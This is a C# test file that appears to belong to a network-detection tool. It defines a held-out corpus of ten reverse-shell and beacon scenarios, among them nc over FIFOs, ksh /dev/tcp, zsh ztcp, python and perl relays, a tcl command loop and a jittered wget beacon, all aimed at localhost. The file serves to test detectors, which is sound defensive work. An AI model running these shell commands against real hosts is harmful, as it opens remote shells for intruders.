using N3ttrace.EndToEnd.Tests.Scenarios;
using static N3ttrace.EndToEnd.Tests.Scenarios.ScenarioListener;

namespace N3ttrace.EndToEnd.Tests.Corpora;

/// <summary>
/// HELD-OUT set 2 of the attack corpus: written and fixed (SHA-256 in docs/detection-corpora.md) before the second
/// round of rule work, never tuned on; run once on the rules before that round (baseline) and once after it. Its
/// scenarios use wirings and tools the other two parts lack: a multi-call binary's shell on a FIFO, a shell behind
/// two pipe hops, a socketpair to a relaying parent, zsh and ksh, a bash coprocess, a perl process that forks to
/// relay through a FIFO, a python pty behind a FIFO, tcl, and a jittered wget beacon.
/// </summary>
internal static partial class AttackCorpus
{
    public static IReadOnlyList<AttackScenario> HeldOut2 { get; } =
    [
        new("h01", "busybox ash -i reading a FIFO, its output piped to nc.openbsd, into the FIFO", "busybox ash+nc.openbsd", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/busybox ash -i < q 2>&1 | /usr/bin/nc.openbsd 127.0.0.1 {e.P} > q")),

        new("h02", "sh -i behind two pipe hops each way: nc < q | cat | sh -i | cat > q", "cat+dash", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/nc.openbsd 127.0.0.1 {e.P} < q | /bin/cat | /bin/sh -i 2>&1 | /bin/cat > q")),

        new("h03", "python connects, sh -i on one end of a socketpair, the parent relays socket <-> socketpair", "python socketpair", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => [Py, "-c",
                $"import socket,subprocess,select,sys\ns=socket.create_connection(('127.0.0.1',{e.P}))\na,b=socket.socketpair()\n" +
                "p=subprocess.Popen(['/bin/sh','-i'],stdin=b,stdout=b,stderr=b)\nb.close()\n" +
                "while True:\n r,_,_=select.select([s,a],[],[])\n for x in r:\n  d=x.recv(4096)\n  if not d: sys.exit(0)\n  (a if x is s else s).sendall(d)\n"])),

        new("h04", "zsh ztcp, then zsh -i with stdio on the connection", "zsh", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/zsh", "-c",
                $"zmodload zsh/net/tcp; ztcp 127.0.0.1 {e.P} || exit 1; fd=$REPLY; exec /usr/bin/zsh -f -i <&$fd >&$fd 2>&$fd"])),

        new("h05", "ksh /dev/tcp descriptor, exec ksh -i on it", "ksh", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/ksh", "-c", $"exec 3<>/dev/tcp/127.0.0.1/{e.P}; exec /usr/bin/ksh -i <&3 >&3 2>&3"])),

        new("h06", "bash coproc nc.openbsd, sh -i on the coprocess's pipes", "bash coproc+nc.openbsd", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Bash(e => $"coproc /usr/bin/nc.openbsd 127.0.0.1 {e.P}; /bin/sh -i <&${{COPROC[0]}} >&${{COPROC[1]}} 2>&1")),

        new("h07", $"sh loop: wget every {BeaconSeconds} s +-20%, {BeaconCalls} calls", "wget+sh", Wiring.None, AttackKind.Beacon, Mode.Http,
            Sh(e => $"for i in $(seq {BeaconCalls}); do /usr/bin/wget -q -O /dev/null -t 1 http://127.0.0.1:{e.P}/w; {JitterSleep}; done")),

        new("h08", "sh -i < q | perl: connects, forks, one side copies stdin to the socket, the other the socket into q", "perl (fork)", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => "rm -f q; mkfifo q; /bin/sh -i < q 2>&1 | /usr/bin/perl -MIO::Socket::INET -e " +
                "'$c=IO::Socket::INET->new(\"127.0.0.1:$ARGV[0]\") or die; open(F,\">\",\"q\") or die; F->autoflush(1); " +
                "if(fork){while(sysread(STDIN,$b,4096)){syswrite($c,$b)}}else{while(sysread($c,$b,4096)){syswrite(F,$b)}}' " + e.P)),

        new("h09", "python pty.spawn sh, python's stdio on nc.openbsd through a pipe and a FIFO", "python pty+nc.openbsd", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/nc.openbsd 127.0.0.1 {e.P} < q | {Py} -c 'import pty; pty.spawn(\"/bin/sh\")' > q 2>&1")),

        new("h10", "tcl socket, each line run by exec /bin/sh -c, output sent back", "tclsh", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                var script = e.File("job.tcl");
                await File.WriteAllTextAsync(script,
                    "set s [socket 127.0.0.1 [lindex $argv 0]]\nfconfigure $s -buffering line\n" +
                    "while {[gets $s l] >= 0} {\n if {[catch {exec /bin/sh -c $l 2>@1} r]} { set r $::errorInfo }\n puts $s $r\n}\n");
                await Contexts.RunAsync(["/usr/bin/tclsh", script, e.P], Timeout, e.Dir);
            }),
    ];
}
